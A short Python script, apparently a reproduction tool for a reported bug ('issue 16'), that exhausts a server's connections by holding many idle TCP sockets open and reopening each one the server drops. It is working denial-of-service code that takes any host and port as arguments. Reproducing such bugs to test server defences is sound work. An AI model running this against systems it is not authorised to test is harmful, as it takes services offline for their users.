#!/usr/bin/env python3
"""Holds COUNT idle TCP connections to HOST:PORT for SECONDS, opening a new
one whenever the server closes one: the starvation attack of issue 16.
Prints how many connections it opened in all."""
import resource
import selectors
import socket
import sys
import time

host, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, count + 100), hard))

sel = selectors.DefaultSelector()
opened = 0


def open_one():
    global opened
    s = socket.socket()
    s.setblocking(False)
    try:
        s.connect((host, port))
    except BlockingIOError:
        pass
    sel.register(s, selectors.EVENT_READ)
    opened += 1


for _ in range(count):
    open_one()
print("holding", flush=True)
end = time.monotonic() + seconds
while time.monotonic() < end:
    for key, _ in sel.select(timeout=0.1):
        s = key.fileobj
        try:
            data = s.recv(4096)
        except OSError:
            data = b""
        if not data:
            sel.unregister(s)
            s.close()
            open_one()
print(opened, flush=True)
